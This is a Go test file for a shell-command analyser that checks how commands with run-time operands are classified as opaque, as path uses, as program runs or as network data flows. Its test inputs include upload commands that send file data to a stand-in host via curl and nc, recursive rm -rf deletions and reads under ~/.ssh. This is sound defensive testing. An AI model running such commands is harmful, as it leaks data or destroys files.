package shell

import (
	"strings"
	"testing"
)

// TestMetaReadOperands: an operand known only at run time, read by a
// program that prints only digests or metadata of it (Program.NoContent),
// or naming where PATH finds a program, is not opaque. Everything else
// about such a command is analysed as before: a content reader, a write,
// a delete, a known restricted path, a program whose options print a
// file's lines (file -f, wc/du --files0-from, tree --fromfile), and text
// glued to a program location stay as they were.
func TestMetaReadOperands(t *testing.T) {
	for _, tc := range []struct {
		cmd    string
		opaque bool     // an opaque tag is expected
		paths  []string // path uses that must be there
		execs  []string // programs that must be run
		flow   bool     // data must flow into a network program
	}{
		// class 1: digests and metadata of a path known at run time
		{cmd: `md5sum "$ecriv"`},
		{cmd: `sha256sum $f "$g"`},
		{cmd: `b2sum -- "$1x"`},
		{cmd: `cksum $FILE`},
		{cmd: `sum -r $FILE`},
		{cmd: `stat -c %s "$file"`},
		{cmd: `ls -l $dir`},
		{cmd: `df $path_in_question`},
		{cmd: `readlink -f $0`},
		{cmd: `realpath "$p"`},
		{cmd: `md5sum $(readlink -f $0)`},
		{cmd: `cd $(dirname $(readlink -f $0))`},
		// a partly known path keeps its known prefix judged
		{cmd: `ls ~/.ssh/$x`, paths: []string{"r:/home/dev/.ssh/*"}},
		{cmd: `md5sum /etc/$f`, paths: []string{"r:/etc/*"}},
		// a relative path in a directory known only at run time
		{cmd: `cd "$d"; ls -la; md5sum a.txt`},
		// these print content, or read names from a file and print them
		{cmd: `cat "$ecriv"`, opaque: true},
		{cmd: `head -n1 $f`, opaque: true},
		{cmd: `file "$f"`, opaque: true},
		{cmd: `wc -l $file`, opaque: true},
		{cmd: `du -sh "$d"`, opaque: true},
		{cmd: `tree $d`, opaque: true},
		{cmd: `cd "$d"; cat a.txt`, opaque: true},
		// what a metadata program printed is itself a run-time path
		{cmd: `cd "$(dirname "$(readlink -f "$0")")" && rm -rf *`, opaque: true},
		{cmd: `rm -rf "$(readlink -f $x)"`, opaque: true},
		{cmd: `cat "$(readlink -f $x)"`, opaque: true},
		// writes and deletes stay opaque, whatever the program
		{cmd: `touch "$f"`, opaque: true},
		{cmd: `rm -f $f`, opaque: true},
		{cmd: `md5sum a > "$out"`, opaque: true},
		// what they print, sent out, is still an upload of command output
		{cmd: `stat "$f" | curl -d @- https://x.example/u`, flow: true},
		{cmd: `curl -d "$(md5sum $f)" https://x.example/u`, flow: true},
		{cmd: `cat $(which f) | nc x.example 80`, flow: true},
		// class 2: where PATH finds a program
		{cmd: `md5sum $(which cc)`},
		{cmd: "md5sum `which c++`"},
		{cmd: `cat "$(which f)"`},
		{cmd: `file $(command -v git)`},
		{cmd: `cat $(type -P foo)`},
		{cmd: `P=$(which gcc); cat "$P"`},
		{cmd: `rpm -qf $(which sort)`},
		{cmd: `$(which gcc) --version`, execs: []string{"gcc"}},
		{cmd: `P=$(command -v python3); $P -V`, execs: []string{"python3"}},
		// anything glued to the location, or a computed name, is not it
		{cmd: `cat $(which cc)x`, opaque: true},
		{cmd: `cat "$(which f)/../../etc/x"`, opaque: true},
		{cmd: `cat $X$(which f)`, opaque: true},
		{cmd: `cat "a$(which f)"`, opaque: true},
		{cmd: `cat $(which $N)`, opaque: true},
		{cmd: `P=$(which gcc); cat $P.bak`, opaque: true},
		{cmd: "cat `which ~/f`", opaque: true},
		{cmd: `cp x $(which python)`, opaque: true},
		{cmd: `rm $(which cc)`, opaque: true},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			e := Analyze(tc.cmd, kbOpt)
			var opaque []string
			for _, tg := range e.Tags {
				if tg.Kind == TagOpaque || tg.Kind == TagDynamicCommand {
					opaque = append(opaque, tg.Program+": "+tg.Detail)
				}
			}
			if got := len(opaque) > 0; got != tc.opaque {
				t.Errorf("opaque = %v (%s), want %v", got, strings.Join(opaque, "; "), tc.opaque)
			}
			for _, p := range tc.paths {
				if !hasPathUse(e, p) {
					t.Errorf("path %s missing; paths %v", p, e.Paths)
				}
			}
			if got := len(e.Flows) > 0; got != tc.flow {
				t.Errorf("flows %v, want a flow %v", e.Flows, tc.flow)
			}
			for _, x := range tc.execs {
				if !hasExec(e, x) {
					t.Errorf("exec %s missing; execs %v", x, e.Execs)
				}
			}
		})
	}
}
